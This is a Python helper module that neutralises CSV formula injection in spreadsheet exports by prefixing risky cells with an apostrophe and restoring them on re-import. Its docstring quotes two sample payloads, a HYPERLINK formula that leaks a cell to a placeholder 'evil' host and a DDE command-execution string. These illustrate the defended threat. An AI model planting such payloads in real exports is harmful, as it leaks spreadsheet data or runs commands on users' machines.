"""CSV cells that are safe to open in a spreadsheet: the one helper every CSV hitflow writes uses.

Standard library only, like ``mturk_money``: the HIT service and the Airflow side (which never
imports ``hit_service``) both use it.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula (OWASP's "CSV injection"): a worker's answer ``=HYPERLINK("http://evil/?"&A2,"Click
me")`` or ``+cmd|' /C calc'!A0`` would run, or leak the sheet, in the requester's spreadsheet.
``cell`` puts an apostrophe in front of such a value, which spreadsheets read as "this is text";
plain numbers (``-5``, ``+1.5``, ``-2e3``) stay as they are, they are not formulas. A value that
already starts with apostrophes before such a character gets one more, so ``restore`` gives every
value back exactly (``restore(cell(v)) == v``).

``restore`` is for files that come back: a spreadsheet saving the file may keep the apostrophe or
drop it, and both read back as the value that was written (the console's reviewed-CSV upload and
batch input, the DAG's ``input.csv`` uploaded to the console).

Write with ``writer(file)`` (``csv.writer`` whose rows pass through ``cell``), or ``row(values)``.
Used by: the console's results CSV (``hit_service/console/csvfiles.py``), the publish DAG's
exports (``plugins/hitflow/publish/export.py``); every new CSV export (e.g. a ledger export) uses it too.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _after_quotes(text: str) -> str:
    return text.lstrip("'")[:1]


def cell(value: Any) -> str:
    """``value`` as text a spreadsheet shows as text, never runs as a formula."""
    text = "" if value is None else str(value)
    if not text or _NUMBER.fullmatch(text):
        return text
    if text[0] in FORMULA_START or (text[0] == "'" and _after_quotes(text) in FORMULA_START):
        return "'" + text
    return text


def restore(text: str) -> str:
    """The value ``cell`` was given, from a cell as written or as a spreadsheet saved it again."""
    if text.startswith("'") and _after_quotes(text[1:]) in FORMULA_START:
        return text[1:]
    return text


def row(values: Iterable[Any]) -> list[str]:
    """Every value of a row through ``cell``."""
    return [cell(value) for value in values]


class _SafeWriter:
    """``csv.writer`` whose every cell goes through ``cell``."""

    def __init__(self, inner: Any) -> None:
        self._inner = inner

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._inner.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(file: Any, **kwargs: Any) -> _SafeWriter:
    """A ``csv.writer(file, **kwargs)`` that writes only spreadsheet-safe cells."""
    return _SafeWriter(csv.writer(file, **kwargs))
